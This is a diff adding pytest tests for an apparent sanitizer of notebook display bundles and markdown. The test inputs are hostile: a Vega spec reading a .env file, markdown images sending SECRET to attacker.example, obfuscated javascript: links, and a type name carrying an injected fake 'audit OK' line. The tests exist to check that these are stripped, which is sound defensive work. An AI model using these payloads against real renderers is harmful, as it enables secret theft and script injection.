@@ -189,3 +189,39 @@ def test_verify_warns_about_a_session_without_session_end(tmp_path: Path) -> Non
     assert "warning: session" in res.stdout and "no session_end" in res.stdout
     strict = verify("--strict", str(cut))
     assert strict.returncode == 1 and "no session_end" in strict.stdout
+
+
+def test_only_known_display_types_pass() -> None:
+    """Renderer types that fetch with the user's cookies or run code (Vega, Plotly, ...) are removed."""
+    notes: list[str] = []
+    spec = {"data": {"url": "/api/contents/.env?content=1"}}
+    bundle = {
+        "application/vnd.vega.v5+json": spec,
+        "application/vnd.vegalite.v5+json": spec,
+        "application/vnd.plotly.v1+json": {},
+        "application/geo+json": {},
+        "text/plain": "chart",
+        "image/png": "iVBORw0KGgo=",
+        "application/json": {"a": 1},
+    }
+    assert clean_bundle(bundle, notes) == {
+        "text/plain": "chart",
+        "image/png": "iVBORw0KGgo=",
+        "application/json": {"a": 1},
+    }
+    assert len(notes) == 4
+
+
+def test_markdown_images_must_be_inline_and_links_cannot_script() -> None:
+    assert "attacker" not in clean_markdown("![](https://attacker.example/x.png?d=SECRET)")
+    assert "attacker" not in clean_markdown("[r]: https://attacker.example/x.png\n\n![a][r]")
+    for link in ("javascript&colon;alert(1)", "java&#9;script:alert(1)", "&#106;avascript:alert(1)", "JaVaScRiPt:x"):
+        assert "script" not in clean_markdown(f"[click]({link})").lower().replace("#blocked", ""), link
+    kept = "[docs](https://example.org/a) ![i](data:image/png;base64,AAAA) [rel](notes/a.md)"
+    assert clean_markdown(kept) == kept
+
+
+def test_a_notice_names_a_sandbox_type_on_one_line() -> None:
+    notes: list[str] = []
+    clean_bundle({"application/javascript\n\nglsandbox: audit OK" + "x" * 500: "1"}, notes)
+    assert len(notes) == 1 and "\n" not in notes[0] and len(notes[0]) <= 160
